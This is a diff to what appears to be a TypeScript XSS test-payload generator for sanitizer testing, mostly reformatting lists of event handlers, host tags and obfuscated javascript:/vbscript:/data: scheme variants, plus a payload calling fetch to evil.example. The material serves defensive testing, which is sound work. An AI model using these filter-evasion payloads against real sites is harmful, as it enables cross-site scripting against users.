@@ -3,15 +3,53 @@ import { ATTACK_VECTORS } from './attack-vectors.ts';
 /** A payload that leaves a visible trace if it ever runs: a dialog, or a request to another origin. */
 const payloads = (n: number) => [`alert(${n})`, `fetch('http://evil.example/${n}')`, `confirm(${n})`];
 
-const EVENTS = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'ontoggle', 'onanimationstart', 'onbegin', 'onpointerenter', 'onauxclick'];
+const EVENTS = [
+  'onerror',
+  'onload',
+  'onclick',
+  'onmouseover',
+  'onfocus',
+  'ontoggle',
+  'onanimationstart',
+  'onbegin',
+  'onpointerenter',
+  'onauxclick',
+];
 const HOSTS = [
-  'img src=x', 'svg', 'body', 'details open', 'input autofocus', 'video src=x', 'audio src=x', 'iframe', 'a href="https://exemple.org"',
-  'strong', 'em', 'b', 'del datetime="2015"', 'q cite="https://exemple.org"', 'abbr title="t"', 'marquee', 'select autofocus',
-  'textarea autofocus', 'math', 'blockquote',
+  'img src=x',
+  'svg',
+  'body',
+  'details open',
+  'input autofocus',
+  'video src=x',
+  'audio src=x',
+  'iframe',
+  'a href="https://exemple.org"',
+  'strong',
+  'em',
+  'b',
+  'del datetime="2015"',
+  'q cite="https://exemple.org"',
+  'abbr title="t"',
+  'marquee',
+  'select autofocus',
+  'textarea autofocus',
+  'math',
+  'blockquote',
 ];
 const SCHEMES = [
-  'javascript:', 'JAVASCRIPT:', ' javascript:', 'java\tscript:', 'java&#x0A;script:', '&#x6A;avascript:', '&#106;avascript:',
-  'javascript&colon;', 'vbscript:', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'jAvAsCrIpT&#58;', 'javascript&#x3A;',
+  'javascript:',
+  'JAVASCRIPT:',
+  ' javascript:',
+  'java\tscript:',
+  'java&#x0A;script:',
+  '&#x6A;avascript:',
+  '&#106;avascript:',
+  'javascript&colon;',
+  'vbscript:',
+  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
+  'jAvAsCrIpT&#58;',
+  'javascript&#x3A;',
 ];
 const URL_TAGS = ['a href', 'q cite', 'blockquote cite', 'a title="x" href', 'del cite'];
 const MUTATIONS = [
